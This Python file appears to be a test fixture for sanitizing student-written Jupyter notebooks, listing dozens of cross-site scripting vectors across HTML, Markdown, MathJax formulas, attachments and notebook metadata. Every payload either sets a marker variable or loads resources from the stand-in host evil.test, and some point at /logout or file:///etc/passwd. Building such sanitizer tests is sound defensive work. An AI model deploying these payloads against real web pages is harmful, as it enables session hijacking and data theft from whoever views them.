"""What a student writes to turn on whoever opens the page: each vector sets a mark if it runs, or asks another server.

`MARKDOWN` are the sources of Markdown cells, `HTML` what a cell displays as text/html; both by a name that tells what
was left open when its test fails.
"""

from __future__ import annotations

import base64
import io

from PIL import Image

RUN = "window.__pwned=1"
EVIL = "http://evil.test"

SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"
SVG_IN_BASE64 = base64.b64encode(SVG.encode()).decode()


def picture(kind: str = "PNG", size: tuple[int, int] = (8, 5)) -> str:
    """A real picture, in base64."""
    file = io.BytesIO()
    Image.new("RGB", size, "teal").save(file, kind)
    return base64.b64encode(file.getvalue()).decode()


HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "module": f"<script type=module>import '{EVIL}/x.js'; {RUN}</script>",
    "script of MathJax": f"<script type='math/tex'>\\href{{javascript:{RUN}}}{{x}}</script>",
    "unclosed script": f"<script>{RUN}//",
    "handler": f"<img src=x onerror={RUN}>",
    "handler in capitals": f"<IMG SRC=x OnErRoR={RUN}>",
    "handler after a slash": f"<img/src=x/onerror={RUN}>",
    "handler after NUL": f"<img src=x \0onerror={RUN}>",
    "handler that needs nobody": f"<input autofocus onfocus={RUN}>",
    "handler of details": f"<details open ontoggle={RUN}>x</details>",
    "handler of an animation": f"<p style='animation: x 1s' onanimationstart={RUN}>x</p>",
    "handler of a video": f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    "handler of a marquee": f"<marquee onstart={RUN}>x</marquee>",
    "handler of the body": f"<body onload={RUN}>",
    "svg": SVG,
    "svg link": f"<svg><a xlink:href='javascript:{RUN}'><text x=9 y=9>x</text></a></svg>",
    "svg animation": f"<svg><a><animate attributeName=href values='javascript:{RUN}' /><text>x</text></a></svg>",
    "svg use": f"<svg><use href='data:image/svg+xml;base64,{SVG_IN_BASE64}#x'/></svg>",
    "svg in an object": f"<object data='data:image/svg+xml;base64,{SVG_IN_BASE64}'></object>",
    "embed": f"<embed src='javascript:{RUN}'>",
    "frame": f"<iframe src='javascript:{RUN}'></iframe>",
    "frame with its page": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "frame elsewhere": f"<iframe src='{EVIL}'></iframe><frameset><frame src='{EVIL}'></frameset>",
    "base": f"<base href='{EVIL}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content='img-src *'>",
    "stylesheet": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "prefetch": f"<link rel=dns-prefetch href='//evil.test'><link rel=prefetch href='{EVIL}'>",
    "imported style": f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/x.png) }}</style>",
    "style that hides": "<style>body { display: none }</style>",
    "style attribute": f"<p style='background: url({EVIL}/x.png)'>x</p>",
    "style attribute with escapes": f"<p style='back\\67round: u\\72l({EVIL}/x.png)'>x</p>",
    "style of a list": f"<ul style='list-style-image: url({EVIL}/x.png)'><li>x</ul>",
    "style that covers": "<div style='position: fixed; inset: 0; z-index: 9999; background-color: red'>x</div>",
    "link": f"<a href='javascript:{RUN}'>x</a>",
    "link with a tab": f"<a href='java\tscript:{RUN}'>x</a>",
    "link with entities": f"<a href='&#x6A;avascript&colon;{RUN}'>x</a>",
    "link with a control character": f"<a href='\x01javascript:{RUN}'>x</a>",
    "link to data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "link to vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link with a ping": f"<a href='https://example.org' ping='{EVIL}'>x</a>",
    "link within the server": "<a href='/logout'>x</a> <a href='evil.html'>x</a> <a href='//evil.test'>x</a>",
    "area": f"<map name=m><area href='javascript:{RUN}' shape=default></map><img usemap='#m' src=x>",
    "form": f"<form action='{EVIL}'><input name=a><button>x</button></form>",
    "button with its own form": f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    "picture elsewhere": f"<img src='{EVIL}/x.png'>",
    "pictures to choose from": f"<img srcset='{EVIL}/x.png 1x'><picture><source srcset='{EVIL}/y.png'><img></picture>",
    "picture of another sort": f"<input type=image src='{EVIL}/x.png'><video poster='{EVIL}/x.png'></video>",
    "picture within the server": "<img src='/logout'>",
    "svg as a picture": f"<img src='data:image/svg+xml;base64,{SVG_IN_BASE64}'>",
    "page as a picture": f"<img src='data:text/html,<script>{RUN}</script>'>",
    "background": f"<table background='{EVIL}/x.png'><tr><td background='{EVIL}/y.png'>x</table>",
    "cite": f"<blockquote cite='javascript:{RUN}'>x</blockquote>",
    "math link": f"<math href='javascript:{RUN}'><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    "math action": f"<math><maction actiontype='statusline#{EVIL}' xlink:href='javascript:{RUN}'>x</maction></math>",
    "math with a style": f"<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>",
    "math with a comment": f"<math><mi><!--</mi><img src=x onerror={RUN}>--></math>",
    "math annotation": "<math><annotation-xml encoding='text/html'>"
    + f"<img src=x onerror={RUN}></annotation-xml></math>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "title": f"<title><a title='</title><img src=x onerror={RUN}>'></a></title>",
    "textarea": f"<textarea><p title='</textarea><img src=x onerror={RUN}>'></textarea>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "select": f"<select><template><img src=x onerror={RUN}></template></select>",
    "comment": f"<!--><img src=x onerror={RUN}>--> <!-- --!><img src=x onerror={RUN}>",
    "CDATA": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?xml ><img src=x onerror={RUN}>?>",
    "table that is none": f"<table><a href='javascript:{RUN}'><td><img src=x onerror={RUN}></table>",
    "attribute that ends early": f'<p title="\'><img src=x onerror={RUN}>">x</p>',
    "backtick as a quote": f"<img src=`x`onerror={RUN}>",
    "deep": "<b>" * 3000 + f"<img src=x onerror={RUN}>",
    "id": "<p id=chainrule-summary>x</p><img name=getElementById><form id=body></form>",
    "classes of the page": "<div class='modal fade in tex2jax_process' style='display:block'>x</div>",
    "data for the page's script": "<a data-link='x' data-toggle=tooltip data-html=true "
    + f"title='<img src=x onerror={RUN}>'>x</a>",
    "formula": f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\href{{javascript:{RUN}}}{{x}}\\)",
    "custom element": f"<jupyter-widget onclick={RUN}>x</jupyter-widget>",
    "shadow": f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "bidirectional": "\u202efdp.exe\u2066",
}

MARKDOWN = {
    **{f"HTML: {name}": html for name, html in HTML.items()},
    "link": f"[x](javascript:{RUN})",
    "link in capitals": f"[x](JaVaScRiPt:{RUN})",
    "link in brackets": f"[x](<javascript:{RUN}>)",
    "link with entities": f"[x](&#106;avascript&colon;{RUN}) [x](&#x6A;avascript:{RUN}) [x](java&Tab;script:{RUN})",
    "link with escapes": f"[x](javascript\\:{RUN}) [x](%6aavascript:{RUN}) [x](\x01javascript:{RUN})",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:a) [x](file:///etc/passwd)",
    "link within the server": "[x](/logout) [x](evil.html) [x](//evil.test) [x](files/evil.html)",
    "link with a title": '[x](https://example.org \'" onmouseover="' + RUN + "')",
    "link as a reference": f"[x][y] [y] [y][]\n\n[y]: javascript:{RUN}",
    "reference over lines": f"[x][y]\n\n[y]:\n  <javascript:{RUN}>\n  'title'",
    "autolink": f"<javascript:{RUN}> <JAVASCRIPT:{RUN}> <data:text/html,x>",
    "bare address": f'javascript:{RUN} https://example.org/"onmouseover="{RUN}',
    "picture": f"![x](javascript:{RUN}) ![x]({EVIL}/x.png) ![x](//evil.test/x.png) ![x](/logout)",
    "picture as a reference": f"![x][y]\n\n[y]: {EVIL}/x.png",
    "picture with a title": f'![x" onerror="{RUN}](x "\' onerror=\'{RUN}")',
    "linked picture": f"[![x]({EVIL}/x.png)](javascript:{RUN})",
    "attachment that is missing": "![x](attachment:x.png)",
    "attachment that is SVG": "![x](attachment:x.svg)",
    "attachment that is none": "![x](attachment:x.html)",
    "attachment with quotes": "![x](attachment:quotes.png)",
    "file prefix": "[x](files/x.html) [x](/files/x.html)",
    "fence": f"```mermaid\n</pre><img src=x onerror={RUN}>\n```",
    "fence with a language": f'```"><img/src=x/onerror={RUN}>\nx\n```',
    "code": f"`<img src=x onerror={RUN}>`\n\n    <img src=x onerror={RUN}>",
    "heading": "# neuron\n\nsoftmax\n=======\n\n## <a name=body>x</a>",
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$\n\n$$\\href{{javascript:{RUN}}}{{x}}$$",
    "formula with an extension": f"$\\require{{html}}\\href{{javascript:{RUN}}}{{x}}$ $\\require{{{EVIL}/x.js}}$",
    "formula with a style": f"$\\style{{background: url({EVIL}/x.png)}}{{x}}$ $\\class{{modal}}{{x}}$ "
    + "$\\cssId{y}{x}$",
    "formula with HTML": f"$\\text{{<img src=x onerror={RUN}>}}$ $\\mathrm{{<script>{RUN}</script>}}$",
    "formula with a picture": f"$\\includegraphics{{{EVIL}/x.png}}$ $\\unicode[url({EVIL}/x)]{{65}}$",
    "formula with quotes": f'$\\color{{red"onmouseover="{RUN}}}{{x}}$ $\\bbox[url({EVIL}/x)]{{x}}$',
    "formula with entities": f"$&lt;img src=x onerror={RUN}&gt;$ \\\\(\\href{{javascript:{RUN}}}{{x}}\\\\)",
    "environment": f"\\begin{{align}}\\href{{javascript:{RUN}}}{{x}}\\end{{align}}",
    "environment of another sort": f"\\begin{{eqnarray}}<img src=x onerror={RUN}>\\end{{eqnarray}}",
    "macros without end": "$"
    + "".join(f"\\def\\{a}{{\\{b}\\{b}}}" for a, b in zip("abcdefghij", "bcdefghijk", strict=True))
    + "\\a$",
    "reference of a formula": "\\eqref{x} \\ref{x} \\label{x}",
    "escaped formula": f"\\$\\href{{javascript:{RUN}}}{{x}}\\$ &#36;\\href{{javascript:{RUN}}}{{x}}&#36;",
    "HTML between lines": f"<div>\n\n[x](javascript:{RUN})\n\n<img src=x\nonerror={RUN}>\n\n</div>",
    "HTML in a table": f"| a |\n| --- |\n| <img src=x onerror={RUN}> [x](javascript:{RUN}) |",
    "end of the block": f"</div></div></div><script>{RUN}</script>\n\n[x](javascript:{RUN})",
    "definition list": f"a\n: [x](javascript:{RUN})",
    "task list": f"- [ ] [x](javascript:{RUN})",
    "quotes without end": ">" * 500 + f" [x](javascript:{RUN})",
}

ATTACHMENTS = {
    "x.svg": {"image/svg+xml": SVG_IN_BASE64},
    "x.html": {"text/html": base64.b64encode(f"<script>{RUN}</script>".encode()).decode()},
    "quotes.png": {"image/png": f'"><img src=x onerror={RUN}>'},
}

METADATA = {
    "title": f"</title><script>{RUN}</script>",
    "authors": [{"name": f"<script>{RUN}</script>"}],
    "language_info": {"name": f"'><script>{RUN}</script>", "pygments_lexer": "<img>", "codemirror_mode": "x"},
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"x": {"model_name": f"</script><script>{RUN}</script>"}},
        }
    },
}
"""Of a notebook."""

CELL_METADATA = {
    "tags": [f"'><script>{RUN}</script>"],
    "slideshow": {"slide_type": f"<script>{RUN}</script>"},
    "name": f"<script>{RUN}</script>",
    "alt": f"'><script>{RUN}</script>",
    "magics_language": "html",
}
"""Of a cell."""
